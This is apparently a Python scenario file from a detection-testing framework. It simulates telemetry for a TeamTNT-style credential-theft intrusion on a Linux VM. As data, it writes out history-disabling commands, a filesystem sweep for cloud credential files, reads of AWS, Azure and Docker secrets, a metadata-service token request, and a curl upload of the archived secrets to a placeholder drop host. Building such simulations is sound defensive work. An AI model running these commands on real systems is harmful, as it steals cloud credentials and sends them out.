"""The teamtnt_credential_theft campaign (moved unchanged from the old single module; to be converted)."""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, DROP


@scenario(
    "teamtnt_credential_theft",
    "linux",
    ("access", "history_disabled", "cred_search", "cred_files", "imds_token", "exfil"),
)
def teamtnt_credential_theft(ctx: SimContext) -> Stages:
    """TeamTNT-style: after landing in the Java app, switch off shell history, sweep the
    box for cloud credentials and ask the instance metadata service for a token."""
    t = Timeline(ctx, "teamtnt", linux_host("vm-app01"), incident_start(ctx, "teamtnt"))
    java = t.daemon("java")
    shell = t.run("access", java, BASH, "/bin/bash -i", "app", after=(10, 60), cwd="/opt/app")
    t.run(
        "history_disabled",
        shell,
        BASH,
        "bash -c export HISTFILE=/dev/null; export HISTSIZE=0; export HISTFILESIZE=0",
        after=(2, 8),
    )
    t.run(
        "history_disabled",
        shell,
        "/usr/bin/sed",
        "sed -i -e $aHISTSIZE=0 /home/app/.bashrc",
        after=(3, 12),
    )
    t.run(
        "cred_search",
        shell,
        "/usr/bin/find",
        "find / -name credentials -o -name accessTokens.json -o -name msal_token_cache.json "
        "-o -name azureProfile.json 2>/dev/null",
        after=(10, 30),
    )
    for path in (
        "/home/app/.azure/msal_token_cache.json",
        "/home/app/.azure/azureProfile.json",
        "/home/app/.aws/credentials",
        "/home/app/.docker/config.json",
    ):
        t.run("cred_files", shell, "/usr/bin/cat", f"cat {path}", after=(2, 15))
    t.run(
        "imds_token",
        shell,
        "/usr/bin/curl",
        "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token"
        "?api-version=2018-02-01&resource=https://management.azure.com/",
        after=(20, 60),
    )
    tar = t.run(
        "exfil",
        shell,
        "/usr/bin/tar",
        "tar czf /tmp/.c.tgz /home/app/.azure /home/app/.aws",
        after=(10, 40),
    )
    t.file("exfil", tar, "FileCreated", "/tmp/.c.tgz", size=18_233)
    t.run(
        "exfil",
        shell,
        "/usr/bin/curl",
        f"curl -s -F f=@/tmp/.c.tgz http://{DROP}/u.php",
        after=(2, 10),
    )
    return t.stages
